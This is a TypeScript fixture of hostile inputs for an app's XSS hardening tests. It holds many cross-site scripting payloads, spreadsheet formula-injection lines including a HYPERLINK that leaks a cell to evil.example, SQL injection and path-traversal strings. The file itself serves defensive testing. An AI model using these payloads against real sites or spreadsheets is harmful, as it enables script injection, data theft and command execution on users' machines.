/**
 * Hostile text for the hardening tests (tests/xss.e2e.ts): what a careless or malicious user, a
 * pasted chat message or a shared link could put into any free-text field of the app.
 *
 * Every payload that could run script if it were ever treated as markup, a URL or a template calls
 * `window.__xss(<id>)` or `alert(<id>)` with its own id, so the tests can tell which one ran: the
 * tests install `window.__xss` as a trap before any page loads and fail on any dialog.
 *
 * The ids are assigned from the position in the list (1, 2, …), and each payload's text is built
 * from its id, so adding or reordering entries never leaves an id and its payload out of step.
 */
import { LIMITS } from '../src/lib/assessment/model';
import { SNAPSHOT_LABEL_MAX } from '../src/lib/storage/envelope';
import { PARTICIPANT_MAX } from '../src/lib/share/codec';

export const PAYLOAD_KINDS = [
	'script',
	'event-handler',
	'url',
	'svg',
	'embedded',
	'broken-markup',
	'attribute-breakout',
	'template',
	'icu',
	'markdown',
	'csv',
	'bidi',
	'invisible',
	'emoji',
	'long',
	'control',
	'misc'
] as const;
export type PayloadKind = (typeof PAYLOAD_KINDS)[number];

export interface Payload {
	/** 1-based; the number the payload passes to `window.__xss()` or `alert()` if it ever runs. */
	readonly id: number;
	readonly kind: PayloadKind;
	readonly text: string;
}

/** Repeats `unit` until the text is exactly `length` UTF-16 units long (ASCII units only). */
function exactly(length: number, unit: string): string {
	return unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
}

/** Texts one unit longer than a field allows: the app must cut them, never store more. */
const overLimit = (limit: number, what: string) => (id: number) =>
	exactly(limit + 1, `${what}<img src=x onerror=window.__xss(${id})> `);

const DEFINITIONS: readonly [PayloadKind, (id: number) => string][] = [
	// Script elements, plain and obfuscated.
	['script', (id) => `<script>window.__xss(${id})</script>`],
	['script', (id) => `<SCRIPT SRC=data:text/javascript,window.__xss(${id})></SCRIPT>`],
	['script', (id) => `<script>alert(${id})</script>`],
	['script', (id) => `</textarea><script>window.__xss(${id})</script>`],
	['script', (id) => `</title><script>window.__xss(${id})</script>`],
	['script', (id) => `<scr<script>ipt>window.__xss(${id})</scr</script>ipt>`],
	['script', (id) => `</script><script>window.__xss(${id})</script>`],
	['script', (id) => `<script type="module">window.__xss(${id})</script>`],

	// Event-handler attributes.
	['event-handler', (id) => `<img src=x onerror=window.__xss(${id})>`],
	['event-handler', (id) => `<img src="x" onerror="alert(${id})">`],
	['event-handler', (id) => `<svg onload=window.__xss(${id})>`],
	['event-handler', (id) => `<svg/onload=alert(${id})>`],
	['event-handler', (id) => `<body onload=window.__xss(${id})>`],
	['event-handler', (id) => `<input autofocus onfocus=window.__xss(${id})>`],
	['event-handler', (id) => `<details open ontoggle=window.__xss(${id})>`],
	['event-handler', (id) => `<video><source onerror=window.__xss(${id})></video>`],
	[
		'event-handler',
		(id) => `<div onmouseover="window.__xss(${id})" style="position:fixed;inset:0">hover</div>`
	],
	['event-handler', (id) => `<marquee onstart=window.__xss(${id})>news</marquee>`],

	// javascript:, data: and other schemes that must never become a link or be stored as evidence.
	['url', (id) => `javascript:window.__xss(${id})`],
	['url', (id) => `JaVaScRiPt:alert(${id})`],
	['url', (id) => ` javascript:window.__xss(${id})`],
	['url', (id) => `java\tscript:window.__xss(${id})`],
	['url', (id) => `data:text/html,<script>window.__xss(${id})</script>`],
	['url', (id) => `data:text/html;base64,${btoa(`<script>window.__xss(${id})</script>`)}`],
	['url', (id) => `vbscript:msgbox(${id})`],
	['url', (id) => `<a href="javascript:window.__xss(${id})">click me</a>`],
	['url', (id) => `%3Cscript%3Ewindow.__xss(${id})%3C%2Fscript%3E`],

	// SVG and MathML: parsed differently from HTML, a favourite for mutation XSS.
	['svg', (id) => `<svg><script>window.__xss(${id})</script></svg>`],
	['svg', (id) => `<svg><animate onbegin=window.__xss(${id}) attributeName=x dur=1s>`],
	[
		'svg',
		(id) =>
			`<svg><a xlink:href="javascript:window.__xss(${id})"><text x="20" y="20">x</text></a></svg>`
	],
	['svg', (id) => `<math><mtext><table><mglyph><style><img src=x onerror=window.__xss(${id})>`],
	['svg', (id) => `<svg><style><img src=x onerror=window.__xss(${id})></style></svg>`],

	// Frames, plugins and document-level elements.
	['embedded', (id) => `<iframe src="javascript:parent.__xss(${id})"></iframe>`],
	['embedded', (id) => `<iframe srcdoc="<script>parent.__xss(${id})</script>"></iframe>`],
	['embedded', (id) => `<object data="javascript:window.__xss(${id})"></object>`],
	['embedded', (id) => `<embed src="javascript:window.__xss(${id})">`],
	['embedded', (id) => `<base href="javascript:window.__xss(${id})//">`],
	[
		'embedded',
		(id) => `<meta http-equiv="refresh" content="0;url=javascript:window.__xss(${id})">`
	],
	['embedded', (id) => `<form action="javascript:window.__xss(${id})"><button>Go</button></form>`],
	// A request to another origin, which the test fixture also catches.
	[
		'embedded',
		() =>
			`<img src="https://evil.example/pixel.gif"><link rel=stylesheet href=//evil.example/x.css>`
	],

	// Broken, unclosed and nested markup.
	['broken-markup', (id) => `<img src=x onerror=window.__xss(${id})`],
	['broken-markup', (id) => `<<script>window.__xss(${id});//<</script>`],
	['broken-markup', (id) => `<!--<img src="--><img src=x onerror=window.__xss(${id})//">`],
	['broken-markup', (id) => `<![CDATA[<script>window.__xss(${id})</script>]]>`],
	[
		'broken-markup',
		(id) => `<noscript><p title="</noscript><img src=x onerror=window.__xss(${id})>">`
	],
	['broken-markup', () => `</p></div></main><h1>Injected heading</h1><xss-probe>probe</xss-probe>`],
	['broken-markup', () => `<style>*{display:none!important}</style><plaintext>`],

	// Breaking out of an attribute value, quoted or not.
	['attribute-breakout', (id) => `"><script>window.__xss(${id})</script>`],
	['attribute-breakout', (id) => `'><img src=x onerror=window.__xss(${id})>`],
	['attribute-breakout', (id) => `" onfocus="window.__xss(${id})" autofocus="`],
	['attribute-breakout', (id) => `' onmouseover='alert(${id})' x='`],
	['attribute-breakout', (id) => `\`><svg onload=window.__xss(${id})>`],

	// Template syntax of Svelte, Angular, JavaScript template literals, ERB/EJS and friends.
	['template', () => `{{7*7}}`],
	['template', () => '${7*7}'],
	['template', (id) => `{@html '<img src=x onerror=window.__xss(${id})>'}`],
	['template', (id) => `{{constructor.constructor('window.__xss(${id})')()}}`],
	['template', () => `<%= 7*7 %> #{7*7} {{= 7*7}} [[7*7]]`],
	['template', (id) => `{#if true}<img src=x onerror=window.__xss(${id})>{/if}`],

	// ICU MessageFormat: the app formats its messages with user text as values, never as patterns.
	['icu', () => `{count, plural, one {x} other {y}}`],
	['icu', () => `{0}`],
	['icu', () => `'{'`],
	['icu', () => `{name} {__proto__} {count, select, other {{name}}}`],
	['icu', () => `It's '{'quoted'}' and {unclosed`],
	['icu', () => `{n, plural, other {# items}} # <b>{x}</b>`],

	// Markdown: links, images, headings, lists, tables, emphasis, entities.
	['markdown', (id) => `[click](javascript:window.__xss(${id}))`],
	['markdown', (id) => `![x](https://evil.example/pixel.png "t") <https://evil.example/${id}>`],
	['markdown', () => `# Heading injection\n- [x] fake task\n> quoted\n\n---`],
	['markdown', () => `| a | b |\n|---|---|\n| c | d |`],
	['markdown', () => '**bold** _em_ ~~strike~~ `code` \\*not\\* 1. one'],
	['markdown', (id) => `&lt;script&gt;window.__xss(${id})&lt;/script&gt; &amp; &#x3C;b&#x3E;`],

	// Spreadsheet formula injection (OWASP "CSV injection").
	['csv', () => `=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`],
	['csv', () => `+cmd|' /C calc'!A0`],
	['csv', () => `-2+3+cmd|' /C calc'!A0`],
	['csv', () => `@SUM(1+1)*cmd|' /C calc'!A0`],
	['csv', () => `\t=1+1`],
	['csv', () => `a,"b",c\r\n=2+2,"",'`],

	// Bidirectional controls: right-to-left override, isolates, marks, mixed scripts.
	['bidi', () => `Invoice \u202Egnp.exe`],
	['bidi', () => `\u2066isolate\u2069 \u2067rtl\u2069 \u2068first-strong\u2069 \u202Aembed\u202C`],
	['bidi', () => `abc\u200F\u200Edef\u061C ghi`],
	['bidi', () => `שלום <b>bold</b> مرحبا 123`],

	// Invisible and combining characters.
	['invisible', () => `ze\u200Bro\u200Cwi\u200Ddth\uFEFF\u2060joiner`],
	['invisible', () => `Z\u0334\u0321\u0328a\u0338\u0322\u034El\u0335\u0328g\u0337\u031Bo\u0336`],
	['invisible', () => `e\u0301 is not \u00E9, \uFB01 is not fi`],

	// Emoji: ZWJ sequences, skin tones, flags, keycaps, astral-plane letters.
	['emoji', () => `👩🏽‍💻 🏳️‍🌈 👨‍👩‍👧‍👦 🇳🇴 1️⃣ ❤️`],
	['emoji', () => `𝕳𝖊𝖑𝖑𝖔 𐐷 🀄 \u{1F600}`],

	// Very long text (ASCII, so a cut at a limit never splits a surrogate pair).
	['long', (id) => exactly(10_000, `<img src=x onerror=window.__xss(${id})> `)],
	['long', overLimit(LIMITS.name, 'name ')],
	['long', overLimit(LIMITS.note, 'note ')],
	['long', overLimit(LIMITS.naReason, 'reason ')],
	['long', overLimit(LIMITS.owner, 'owner ')],
	['long', overLimit(PARTICIPANT_MAX, 'who ')],
	['long', overLimit(SNAPSHOT_LABEL_MAX, 'label ')],
	['long', (id) => `https://example.com/${id}/${'a'.repeat(LIMITS.evidence)}`],

	// NUL, C0 and C1 controls, terminal escapes, Unicode line and paragraph separators.
	['control', () => `nul\u0000byte`],
	['control', () => `\u0001\u0002\u0007\u0008\u000B\u000C\u001B[31mred\u001B[0m\u007F\u0085\u009F`],
	['control', () => `line\u2028separator\u2029paragraph`],
	['control', () => `\r\n=cmd|' /C calc'!A0`],

	// Odd but plausible: prototype keys, paths, SQL, escapes that look like markup.
	['misc', () => `__proto__ constructor toString hasOwnProperty`],
	['misc', () => `../../../../etc/passwd C:\\Windows\\system32\\ \\\\server\\share`],
	['misc', () => `' OR '1'='1'; DROP TABLE assessments;--`],
	['misc', (id) => `\\u003cscript\\u003ewindow.__xss(${id})\\u003c/script\\u003e`],
	['misc', () => `Ana "the boss" O'Brien & Sons <ana@example.com>`]
];

export const PAYLOADS: readonly Payload[] = DEFINITIONS.map(([kind, make], index) => ({
	id: index + 1,
	kind,
	text: make(index + 1)
}));

export function payloadsOf(kind: PayloadKind): Payload[] {
	return PAYLOADS.filter((payload) => payload.kind === kind);
}

export function payload(id: number): Payload {
	const found = PAYLOADS[id - 1];
	if (!found) throw new Error(`no payload ${id}`);
	return found;
}

/** The payloads with ids `from` to `to`, both included. */
export function payloadRange(from: number, to: number): Payload[] {
	return PAYLOADS.slice(from - 1, to);
}

/** Non-http(s) addresses that must never be stored as an evidence link. */
export const REFUSED_EVIDENCE: readonly string[] = [
	...payloadsOf('url')
		.filter((payload) => !payload.text.startsWith('<') && !payload.text.startsWith('%'))
		.map((payload) => payload.text),
	'javascript://example.com/%0Awindow.__xss(1001)',
	'file:///etc/passwd',
	'ftp://example.com/file',
	'blob:https://example.com/0b0e1f5c-0000-4000-8000-000000000000',
	'about:blank',
	'mailto:ana@example.com',
	'//evil.example/no-scheme',
	'<script>window.__xss(1002)</script>'
];

/** http(s) addresses full of markup characters: valid evidence, to be shown exactly as text. */
export const ACCEPTED_EVIDENCE: readonly string[] = [
	'https://example.com/?q=<script>window.__xss(2001)</script>',
	'http://example.com/"><img src=x onerror=window.__xss(2002)>',
	"https://example.com/#{{7*7}}${7*7}{count, plural, other {#}}'",
	'https://例え.jp/パス?x=\u202Eevil',
	"https://user:pass@example.com:8443/a b/'onmouseover='window.__xss(2003)",
	'HTTPS://EXAMPLE.COM/UPPER/CASE',
	'https://example.com/=HYPERLINK("x")'
];
